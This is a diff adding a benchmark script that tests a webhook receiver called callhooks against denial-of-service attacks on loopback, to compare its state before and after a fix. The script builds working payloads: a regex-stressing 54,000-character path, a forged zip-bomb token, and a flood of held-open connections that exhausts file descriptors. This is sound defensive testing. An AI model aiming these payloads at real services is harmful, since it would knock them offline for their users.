@@ -1,0 +1,195 @@
+"""Valid callbacks served per 10 s while one anonymous client attacks the receiver (issue 7, findings 1, 2, 4).
+
+Runs ``callhooks run`` from the source tree given by ``--source`` (a checkout of ``main`` for "before", this
+branch for "after") on loopback, starts the attack, and counts the valid signed callbacks a well-behaved
+client gets answered with 200 in 10 seconds. The client and the attackers use this interpreter; the server
+imports ``callhooks`` from ``--source``.
+
+    python benchmarks/attacks/valid_under_attack.py --source /path/to/main-checkout --attack all
+    python benchmarks/attacks/valid_under_attack.py --source . --attack all
+
+Attacks:
+  none        baseline, no attack
+  log-path    2 connections sending GETs with a 54,000-character path (the access-log redaction regex)
+  zip-token   2 connections at ~7 req/s each with a forged compressed token that inflates to 40 MB
+  slow-conn   1,100 idle connections held open, server limited to 1,024 file descriptors
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import resource
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import zlib
+from base64 import urlsafe_b64encode
+from pathlib import Path
+
+import httpx
+
+SECRET = "bench-secret"
+WINDOW = 10.0
+APP = f"""
+from callhooks import CallHooks
+hooks = CallHooks(secret={SECRET!r}, public_url="http://127.0.0.1")
+"""
+
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return int(sock.getsockname()[1])
+
+
+def valid_token() -> str:
+    from itsdangerous import URLSafeSerializer
+
+    # The callhooks token format (salt and payload), made here so the client works against any version.
+    return URLSafeSerializer(SECRET, salt="callhooks.callback-url").dumps({"k": _key_id(SECRET)})
+
+
+def _key_id(secret: str) -> str:
+    import hashlib
+
+    return hashlib.sha256(f"callhooks.callback-url:{secret}".encode()).hexdigest()[:8]
+
+
+def zip_bomb_token(inflated: int = 40_000_000) -> str:
+    payload = b'{"k":"deadbeef","c":{"x":"' + b"A" * inflated + b'"}}'
+    return "." + urlsafe_b64encode(zlib.compress(payload, 9)).decode().rstrip("=") + "." + "x" * 27
+
+
+def start_server(source: Path, port: int, workdir: Path, fd_limit: int | None) -> subprocess.Popen[bytes]:
+    (workdir / "bench_app.py").write_text(APP)
+    env = {**os.environ, "PYTHONPATH": f"{workdir}{os.pathsep}{source}"}
+
+    def limit() -> None:
+        if fd_limit is not None:
+            resource.setrlimit(resource.RLIMIT_NOFILE, (fd_limit, fd_limit))
+
+    command = [sys.executable, "-c", "from callhooks.cli import main; raise SystemExit(main())"]
+    command += ["run", "bench_app:hooks", "--port", str(port)]
+    process = subprocess.Popen(
+        command, cwd=workdir, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=limit
+    )
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline:
+        try:
+            if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200:
+                return process
+        except httpx.TransportError:
+            time.sleep(0.1)
+    process.kill()
+    raise SystemExit("server did not start")
+
+
+def count_valid(port: int, seconds: float) -> int:
+    url = f"http://127.0.0.1:{port}/{valid_token()}"
+    body = {"eventType": "answer", "callId": "c-bench", "to": "+19195551313"}
+    served = 0
+    end = time.monotonic() + seconds
+    with httpx.Client(timeout=2.0) as client:
+        while time.monotonic() < end:
+            try:
+                if client.post(url, json=body).status_code == 200:
+                    served += 1
+            except httpx.HTTPError:
+                pass
+    return served
+
+
+def _raw(port: int, request: bytes, stop: threading.Event, rate: float | None) -> None:
+    while not stop.is_set():
+        started = time.monotonic()
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
+                sock.sendall(request)
+                while sock.recv(65536):
+                    pass
+        except OSError:
+            pass
+        if rate is not None:
+            stop.wait(max(0.0, 1 / rate - (time.monotonic() - started)))
+
+
+def attack_threads(kind: str, port: int, stop: threading.Event) -> list[threading.Thread]:
+    if kind == "log-path":
+        request = b"GET /" + b"a" * 54_000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
+        return [threading.Thread(target=_raw, args=(port, request, stop, None)) for _ in range(2)]
+    if kind == "zip-token":
+        token = zip_bomb_token().encode()
+        request = b"GET /" + token + b"?eventType=answer HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
+        return [threading.Thread(target=_raw, args=(port, request, stop, 7.0)) for _ in range(2)]
+    if kind == "slow-conn":
+        return [threading.Thread(target=_hold, args=(port, stop, 1100))]
+    return []
+
+
+def _hold(port: int, stop: threading.Event, count: int) -> None:
+    held: list[socket.socket] = []
+    while not stop.is_set():
+        # Keep `count` connections open; replace the ones the server closed.
+        alive = []
+        for sock in held:
+            try:
+                sock.setblocking(False)
+                if sock.recv(1) == b"":
+                    sock.close()
+                    continue
+            except BlockingIOError:
+                pass
+            except OSError:
+                sock.close()
+                continue
+            alive.append(sock)
+        held = alive
+        while len(held) < count and not stop.is_set():
+            try:
+                held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
+            except OSError:
+                break
+        stop.wait(0.2)
+    for sock in held:
+        sock.close()
+
+
+def measure(source: Path, kind: str) -> dict[str, object]:
+    port = free_port()
+    with tempfile.TemporaryDirectory() as workdir:
+        server = start_server(source, port, Path(workdir), 1024 if kind == "slow-conn" else None)
+        stop = threading.Event()
+        threads = attack_threads(kind, port, stop)
+        try:
+            for thread in threads:
+                thread.start()
+            if threads:
+                stop.wait(2.0)  # let the attack reach its steady state
+            served = count_valid(port, WINDOW)
+        finally:
+            stop.set()
+            for thread in threads:
+                thread.join(30)
+            server.terminate()
+            server.wait(15)
+    return {"source": str(source), "attack": kind, "valid_callbacks_per_10s": served}
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--source", type=Path, required=True, help="source tree whose callhooks the server runs")
+    parser.add_argument("--attack", choices=["none", "log-path", "zip-token", "slow-conn", "all"], default="all")
+    args = parser.parse_args()
+    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
+    kinds = ["none", "log-path", "zip-token", "slow-conn"] if args.attack == "all" else [args.attack]
+    for kind in kinds:
+        print(json.dumps(measure(args.source.resolve(), kind)), flush=True)
+
+
+if __name__ == "__main__":
+    main()
